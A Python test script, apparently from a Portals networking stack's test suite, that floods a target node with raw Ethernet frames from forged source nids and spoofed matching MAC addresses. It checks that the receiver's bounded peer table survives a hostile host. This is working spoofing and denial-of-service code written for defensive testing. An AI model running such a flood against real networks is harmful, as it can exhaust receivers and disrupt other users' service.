"""Send well-formed Portals puts from COUNT made-up sources (nids that no
node has, random pids) at DST_NID/DST_PID, as a hostile host on the wire
would: every frame opens a new stream, every other one asks for an ACK
that can never be delivered.  The Ethernet source of each frame is its
made-up nid's MAC too (02:00:00 and the nid): a Linux Portals host drops
frames whose source MAC is not their nid's (rx_spoofed), so a flood from
this host's own MAC would test only that check; an attacker who can send
raw frames can forge both, and then the bounded peer table is what keeps
the receiver working.  Usage: flood.py IFACE DST_NID DST_PID COUNT SEED.
Prints how many frames it sent."""
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from inject import ETH_P, header, seal  # noqa: E402

PT_NO_ENTRY = 30      # a portal no one posts to: only the sender's state is kept


def nid_mac(nid):
    return bytes([2, 0, 0, (nid >> 16) & 255, (nid >> 8) & 255, nid & 255])


def main():
    iface, nid, pid, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \
        int(sys.argv[4]), int(sys.argv[5])
    rnd = random.Random(seed)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P))
    s.bind((iface, ETH_P))
    for i in range(count):
        src_nid = 0x100000 + rnd.randrange(1 << 20)
        eth = nid_mac(nid) + nid_mac(src_nid) + struct.pack("!H", ETH_P)
        h = header(nid, pid, src_nid=src_nid,
                   src_pid=rnd.randrange(3, 1 << 16), session=rnd.randrange(1, 1 << 32),
                   pt=PT_NO_ENTRY, msg_len=8, frag_len=8)
        h[101] = i % 2                                      # PTL_ACK_REQ
        s.send(eth + seal(h, bytes(8)))
        if i % 100 == 99:
            time.sleep(0.01)      # a pace the node's receive ring takes in
    print(count)


if __name__ == "__main__":
    main()
